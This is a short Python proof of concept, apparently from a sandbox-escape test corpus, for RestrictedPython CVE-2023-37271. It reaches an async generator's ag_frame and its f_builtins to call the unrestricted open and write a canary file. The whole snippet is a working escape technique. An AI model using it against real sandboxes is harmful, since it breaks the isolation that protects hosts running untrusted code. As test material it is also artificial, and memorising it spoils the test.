# source: RestrictedPython CVE-2023-37271
# effect: write

async def numbers():
    yield 1


frame = numbers().ag_frame
frame.f_builtins["open"]("/tmp/canary/written", "w").write("frames/async_generator_ag_frame")
